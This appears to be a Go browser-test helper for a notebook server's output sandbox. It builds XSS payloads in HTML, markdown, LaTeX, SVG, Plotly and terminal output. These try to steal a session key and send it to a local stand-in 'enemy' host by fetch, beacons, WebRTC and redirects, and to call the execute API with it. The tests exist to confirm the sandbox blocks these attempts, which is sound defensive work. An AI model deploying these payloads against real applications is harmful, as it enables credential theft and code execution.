package server

import (
	"fmt"
	"html"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"notebox/tests/browser"
)

// enemy is a host of another's, which counts who comes.
type enemy struct {
	address         string // host:port
	visits, packets atomic.Int64
}

func newEnemy(t *testing.T) *enemy {
	t.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { _ = tcp.Close() })
	e := &enemy{address: tcp.Addr().String()}
	udp, err := net.ListenPacket("udp", e.address)
	require.NoError(t, err)
	t.Cleanup(func() { _ = udp.Close() })
	go func() {
		for {
			conn, err := tcp.Accept()
			if err != nil {
				return
			}
			e.visits.Add(1)
			_ = conn.Close()
		}
	}()
	go func() {
		for {
			if _, _, err := udp.ReadFrom(make([]byte, 1500)); err != nil {
				return
			}
			e.packets.Add(1)
		}
	}()
	return e
}

// attack is a script that tries all ways out of where it runs. Each is by itself, since most throw.
func (e *enemy) attack() string {
	return strings.ReplaceAll(`
	const key = (() => { try { return sessionStorage.getItem("notebox.key"); } catch { return "none"; } })();
	const url = "http://ENEMY/" + key;
	const add = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.documentElement.append(e); return e; };
	for (const way of [
		() => { parent.pwned = true; }, () => { top.pwned = true; }, () => { parent.document.title = "pwned"; },
		() => { parent.sessionStorage.setItem("pwned", "1"); }, () => { localStorage.pwned = "1"; }, () => { document.cookie = "pwned=1"; },
		() => fetch(url, { mode: "no-cors" }), () => navigator.sendBeacon(url), () => new WebSocket("ws://ENEMY/"), () => new EventSource(url),
		() => { new Image().src = url; }, () => import(url), () => new Worker(url), () => add("script", { src: url }),
		() => new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "', { mode: 'no-cors' })"]))),
		() => add("link", { rel: "stylesheet", href: url }), () => add("link", { rel: "prefetch", href: url }), () => add("link", { rel: "preload", as: "script", href: url }),
		() => add("link", { rel: "icon", href: url }),
		() => add("iframe", { src: url }), () => add("iframe", { srcdoc: "<img src='" + url + "'><script>fetch('" + url + "')<\/script>" }),
		() => add("object", { data: url }), () => add("embed", { src: url }), () => add("video", { src: url, autoplay: true }),
		() => { const f = add("form", { action: url, method: "post" }); f.submit(); },
		() => window.open(url), () => { const a = add("a", { href: url, ping: url }); a.click(); }, () => { const a = add("a", { href: url, target: "_top" }); a.click(); },
		() => { top.location = url; }, () => { parent.location = url; },
		() => fetch("SERVICE/v1/execute", { method: "POST", body: "{}", headers: { Authorization: "Bearer " + key } }),
		() => { for (let i = 0; i < 50; i++) parent.postMessage({ height: 1e9, html: "<script>pwned = true<\/script>" }, "*"); },
		() => { document.body.append("attacked"); },
		() => setTimeout(() => { location = url; }, 1500),
	]) { try { const later = way(); later?.catch?.(() => {}); } catch {} }`, "ENEMY", e.address)
}

// quiet is a script that reaches another host without a request of HTTP, so that no policy of
// contents holds it. It does nothing else, which could end it.
func (e *enemy) quiet() string {
	return strings.ReplaceAll(`
	const call = (Peer) => { const peer = new Peer({ iceServers: [{ urls: "stun:ENEMY" }] });
		peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o)); };
	const add = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.documentElement.append(e); return e; };
	for (const way of [
		() => call(RTCPeerConnection), () => call(add("iframe", {}).contentWindow.RTCPeerConnection),
		() => add("iframe", { srcdoc: "<script>(" + call + ")(RTCPeerConnection)<\/script>" }),
		() => add("link", { rel: "preconnect", href: "http://ENEMY/" }), () => add("link", { rel: "dns-prefetch", href: "http://ENEMY/" }),
	]) { try { way(); } catch {} }`, "ENEMY", e.address)
}

// outputs are what code can put out, each with an attack on who looks at it.
func (e *enemy) outputs(service string) []string {
	attack := strings.ReplaceAll(e.attack(), "SERVICE", service)
	inPage := "window.pwned = true; " + strings.ReplaceAll(attack, `"`, "&quot;")
	html := func(text string) string { return display(map[string]any{"text/html": text}) }
	link := fmt.Sprintf("http://%s/", e.address)
	plot := map[string]any{
		"data":   []any{map[string]any{"type": "scatter", "y": []int{1, 2}, "text": []string{"<img src=x onerror='" + inPage + "'>", "b"}, "name": "<a href='javascript:" + inPage + "'>x</a>"}},
		"layout": map[string]any{"title": map[string]any{"text": "<img src='" + link + "' onerror='window.pwned=true'><a href='javascript:parent.pwned=true'>a</a>"}, "images": []any{map[string]any{"source": link, "sizex": 1, "sizey": 1}}},
		"config": map[string]any{"plotlyServerURL": link, "topojsonURL": link},
	}
	return []string{
		html("<p>before</p><script>" + attack + "</script>"),
		html(`<img src="x" onerror="` + inPage + `"><svg onload="` + inPage + `"></svg>`),
		html(`<meta http-equiv="refresh" content="0;url=` + link + `"><p>x</p>`),
		html(`<base href="` + link + `"><img src="a.png"><link rel="stylesheet" href="a.css"><style>@import "` + link + `"; p { background: url(` + link + `) }</style><p>x</p>`),
		html(`<iframe src="` + link + `"></iframe><iframe srcdoc="<script>parent.parent.pwned=true;fetch('` + link + `')</script>"></iframe>`),
		html(`<table><tr><td><a href="javascript:window.pwned=true" title="x">go</a></td><td id="status" class="status">x</td></tr></table>`),
		html(`<table><tr><td>` + strings.Repeat("x", 10) + `</td></tr></table><a href="` + link + `">link</a>`),
		display(map[string]any{"text/markdown": "# md\n<script>window.pwned=true</script><img src=x onerror='window.pwned=true'> [a](javascript:window.pwned=true) " +
			"![b](" + link + "b.png) <iframe src='" + link + "'></iframe> $\\href{javascript:window.pwned=true}{x}$ $\\includegraphics{" + link + "}$ <form action='" + link + "'><input name=a></form>"}),
		display(map[string]any{"text/latex": `$\href{javascript:window.pwned=true}{x} \htmlId{status}{y} \includegraphics{` + link + `}$`}),
		display(map[string]any{"image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="parent.pwned=true"><script>` + strings.ReplaceAll(strings.ReplaceAll(attack, "&", "&amp;"), "<", "&lt;") + `</script><image href="` + link + `" width="9" height="9"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="` + link + `"/></foreignObject></svg>`}),
		display(map[string]any{"application/vnd.plotly.v1+json": plot}),
		display(map[string]any{"text/plain": "<script>window.pwned=true</script>"}),
		stdout("<script>window.pwned=true</script>\x1b]8;;javascript:window.pwned=true\x07x\n"),
		raised("<img src=x onerror=window.pwned=true>", "<script>window.pwned=true</script> Cell In[1], line 1<b>"),
	}
}

// unheld serves a page with a key, in which a script runs as in a page without any guard.
func unheld(t *testing.T, script string) string {
	t.Helper()
	page := `<!doctype html><script>sessionStorage.setItem("notebox.key", "key-of-a-person")</script><iframe srcdoc="` +
		html.EscapeString("<body><script>"+script+"</script>") + `"></iframe>`
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(page)) }))
	t.Cleanup(s.Close)
	return s.URL
}

// requireTried checks that a script of the attack has run in a frame, by a request that no
// other part of the outputs makes and that was seen though it was refused: in none is a key.
func (e *enemy) requireTried(b *browser.Browser) {
	b.T.Helper()
	all := strings.Join(b.Requests(), "\n")
	require.Contains(b.T, all, e.address+"/none", "no script of a frame has tried to reach another host")
	require.NotContains(b.T, all, "key-of-a-person")
}

// requireReached checks that where nothing holds them, the same scripts do reach the other host:
// by requests with the key, and by WebRTC. This Chromium, without a screen, makes no connection
// ahead of a request, so that of those no test can tell.
func (e *enemy) requireReached(t *testing.T) {
	t.Helper()
	const most, often = 20 * time.Second, 50 * time.Millisecond
	b := browser.New(t, 0, 0)
	browser.Eval[bool](b, fmt.Sprintf(`location.href = %q, true`, unheld(t, e.attack())))
	require.Eventually(t, func() bool {
		return e.visits.Load() > 0 && strings.Contains(strings.Join(b.Requests(), "\n"), e.address+"/key-of-a-person")
	}, most, often)
	b = browser.New(t, 0, 0)
	browser.Eval[bool](b, fmt.Sprintf(`location.href = %q, true`, unheld(t, e.quiet())))
	require.Eventually(t, func() bool { return e.packets.Load() > 0 }, most, often)
}
